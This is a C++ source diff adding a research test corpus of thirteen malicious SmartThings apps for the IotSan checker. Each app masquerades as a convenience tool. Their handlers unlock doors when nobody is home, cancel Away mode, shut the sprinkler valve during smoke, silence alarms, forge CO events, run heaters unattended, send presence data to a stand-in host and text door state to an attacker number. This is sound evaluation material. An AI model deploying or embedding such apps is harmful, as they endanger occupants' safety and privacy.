@@ -1,0 +1,358 @@
+// ContexIoT-style malicious apps (paper §10.1/§10.3, from [52]).
+//
+// Nine apps affect the physical state or leak information and are used to
+// evaluate the attribution module; four more discover devices dynamically
+// and must be rejected by IotSan (it "cannot currently handle" them).
+// Each app masquerades as a convenience app — the attack is in the
+// handler bodies.
+#include "corpus/market_apps.hpp"
+
+namespace iotsan::corpus {
+
+std::vector<CorpusApp> MaliciousAppsPart() {
+  std::vector<CorpusApp> apps;
+  auto add = [&apps](std::string name, std::string source) {
+    apps.push_back({std::move(name), AppKind::kMalicious, std::move(source)});
+  };
+
+  // 1. Unlocks the door whenever everyone has left (break-in enabler).
+  add("Sneaky Door Helper", R"APP(
+definition(name: "Sneaky Door Helper", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Keeps your door hardware healthy by exercising it periodically.")
+
+preferences {
+    section("Presence") {
+        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
+    }
+    section("Door lock") {
+        input "lock1", "capability.lock", title: "Lock"
+    }
+}
+
+def installed() {
+    subscribe(people, "presence.notpresent", exerciseHandler)
+}
+
+def exerciseHandler(evt) {
+    def anyoneHome = people.find { it.currentPresence == "present" }
+    if (anyoneHome == null) {
+        // "Exercise" the lock: leaves the door unlocked with nobody home.
+        lock1.unlock()
+    }
+}
+)APP");
+
+  // 2. Disables vacation/away protection by resetting the mode.
+  add("Vacation Mode Disabler", R"APP(
+definition(name: "Vacation Mode Disabler", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Smooths mode transitions for a better automation experience.")
+
+preferences {
+    section("Household") {
+        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
+    }
+}
+
+def installed() {
+    subscribe(location, "mode", modeHandler)
+    subscribe(people, "presence.notpresent", departureHandler)
+}
+
+def modeHandler(evt) {
+    if (evt.value == "Away") {
+        // Silently cancels Away: security apps armed by mode never fire.
+        setLocationMode("Home")
+    }
+}
+
+def departureHandler(evt) {
+    // "Pre-warms" the house shortly after everyone leaves — i.e. drops
+    // the home out of its protective mode while it is empty.
+    runIn(1800, comfortReset)
+}
+
+def comfortReset() {
+    if (location.mode == "Away") {
+        setLocationMode("Home")
+    }
+}
+)APP");
+
+  // 3. Shuts the fire-sprinkler water valve when smoke is detected
+  //    (the paper names exactly this behaviour in §10.3).
+  add("Water Valve Helper", R"APP(
+definition(name: "Water Valve Helper", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Protects your plumbing by managing the main water valve.")
+
+preferences {
+    section("Smoke detector") {
+        input "smoke1", "capability.smokeDetector", title: "Smoke detector"
+    }
+    section("Water valve") {
+        input "valve1", "capability.valve", title: "Valve"
+    }
+}
+
+def installed() {
+    subscribe(smoke1, "smoke.detected", smokeHandler)
+}
+
+def smokeHandler(evt) {
+    // Cuts water to the fire sprinkler during a fire.
+    valve1.close()
+}
+)APP");
+
+  // 4. Silences the siren moments after it starts.
+  add("Alarm Silencer", R"APP(
+definition(name: "Alarm Silencer", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Prevents alarm fatigue by deduplicating siren activations.")
+
+preferences {
+    section("Alarms") {
+        input "alarms", "capability.alarm", title: "Alarms", multiple: true
+    }
+    section("Context (to tell real alarms apart)") {
+        input "smoke1", "capability.smokeDetector", title: "Smoke detector"
+    }
+}
+
+def installed() {
+    subscribe(alarms, "alarm", alarmHandler)
+    subscribe(smoke1, "smoke", smokeHandler)
+}
+
+def alarmHandler(evt) {
+    if (evt.value != "off") {
+        // Silences every activation, emergency or not.
+        alarms.off()
+    }
+}
+
+def smokeHandler(evt) {
+    log.debug "smoke is ${evt.value}"
+}
+)APP");
+
+  // 5. Injects a fake carbon monoxide event (the ContexIoT fake-event
+  //    attack the paper attributes via the security-sensitive-command
+  //    property).
+  add("CO Tester", R"APP(
+definition(name: "CO Tester", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Periodically self-tests your CO detectors.")
+
+preferences {
+    section("Test when this button is pressed") {
+        input "trigger", "capability.button", title: "Button"
+    }
+}
+
+def installed() {
+    subscribe(trigger, "button.pushed", testHandler)
+}
+
+def testHandler(evt) {
+    // Forges a detection event: apps reacting to CO (unlock doors, open
+    // windows) fire with no physical cause.
+    sendEvent(name: "carbonMonoxide", value: "detected")
+}
+)APP");
+
+  // 6. Disables its own (and advertised) safety monitoring.
+  add("Battery Saver Plus", R"APP(
+definition(name: "Battery Saver Plus", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Extends sensor battery life by throttling event processing.")
+
+preferences {
+    section("Managed sensors") {
+        input "motions", "capability.motionSensor", title: "Motion sensors", multiple: true
+    }
+}
+
+def installed() {
+    subscribe(motions, "motion.active", motionHandler)
+}
+
+def motionHandler(evt) {
+    // First event "throttles" — i.e. permanently disables — monitoring.
+    unsubscribe()
+}
+)APP");
+
+  // 7. Leaks presence patterns to an attacker server.
+  add("Home Insights Collector", R"APP(
+definition(name: "Home Insights Collector", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Generates beautiful charts about your daily routines.")
+
+preferences {
+    section("Track") {
+        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
+    }
+}
+
+def installed() {
+    subscribe(people, "presence", presenceHandler)
+}
+
+def presenceHandler(evt) {
+    httpPost("http://insights.example.net/collect", "who=${evt.displayName}&state=${evt.value}")
+}
+)APP");
+
+  // 8. Texts door state to a hard-coded number instead of the user.
+  add("Door State Texter", R"APP(
+definition(name: "Door State Texter", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Texts you whenever your front door opens or closes.")
+
+preferences {
+    section("Door contact") {
+        input "contact1", "capability.contactSensor", title: "Door contact"
+    }
+}
+
+def installed() {
+    subscribe(contact1, "contact", contactHandler)
+}
+
+def contactHandler(evt) {
+    // Hard-coded recipient: the report goes to the attacker, not the user.
+    sendSms("555-ATTACKER", "front door is ${evt.value}")
+}
+)APP");
+
+  // 9. Turns the heater on at full blast when nobody is home.
+  add("Pipe Freeze Guard", R"APP(
+definition(name: "Pipe Freeze Guard", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Protects your pipes from freezing while you travel.")
+
+preferences {
+    section("Presence") {
+        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
+    }
+    section("Heater outlet") {
+        input "heaters", "capability.outlet", title: "Heaters", multiple: true
+    }
+}
+
+def installed() {
+    subscribe(people, "presence.notpresent", awayHandler)
+}
+
+def awayHandler(evt) {
+    def anyoneHome = people.find { it.currentPresence == "present" }
+    if (anyoneHome == null) {
+        // Unattended heater at full power.
+        heaters.on()
+    }
+}
+)APP");
+
+  return apps;
+}
+
+std::vector<CorpusApp> UnsupportedAppsPart() {
+  std::vector<CorpusApp> apps;
+  auto add = [&apps](std::string name, std::string source) {
+    apps.push_back(
+        {std::move(name), AppKind::kUnsupported, std::move(source)});
+  };
+
+  // The four ContexIoT apps the paper cannot handle (§10.1): they
+  // dynamically discover and control devices.
+  add("Midnight Camera", R"APP(
+definition(name: "Midnight Camera", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Takes a nightly photo to verify your home is safe.")
+
+preferences {
+    section("Arm at midnight") {
+        input "enabled", "bool", title: "Enabled", required: false
+    }
+}
+
+def installed() {
+    schedule("0 0 0 * * ?", midnightSnap)
+}
+
+def midnightSnap() {
+    def cameras = getAllDevices()
+    cameras.each { it.take() }
+}
+)APP");
+
+  add("Auto Camera", R"APP(
+definition(name: "Auto Camera", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Automatically configures every camera in your home.")
+
+preferences {
+    section("Enable") {
+        input "enabled", "bool", title: "Enabled", required: false
+    }
+}
+
+def installed() {
+    subscribe(app, appTouch)
+}
+
+def appTouch(evt) {
+    def found = getChildDevices()
+    found.each { it.take() }
+}
+)APP");
+
+  add("Auto Camera 2", R"APP(
+definition(name: "Auto Camera 2", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Improved automatic camera configuration.")
+
+preferences {
+    section("Enable") {
+        input "enabled", "bool", title: "Enabled", required: false
+    }
+}
+
+def installed() {
+    subscribe(app, appTouch)
+}
+
+def appTouch(evt) {
+    def found = findAllDevices()
+    found.each { it.take() }
+}
+)APP");
+
+  add("Alarm Manager", R"APP(
+definition(name: "Alarm Manager", namespace: "iotsan.attack",
+    author: "anonymous",
+    description: "Centrally manages every alarm in the house.")
+
+preferences {
+    section("Enable") {
+        input "enabled", "bool", title: "Enabled", required: false
+    }
+}
+
+def installed() {
+    subscribe(app, appTouch)
+}
+
+def appTouch(evt) {
+    def alarms = discoverDevices()
+    alarms.each { it.off() }
+}
+)APP");
+
+  return apps;
+}
+
+}  // namespace iotsan::corpus
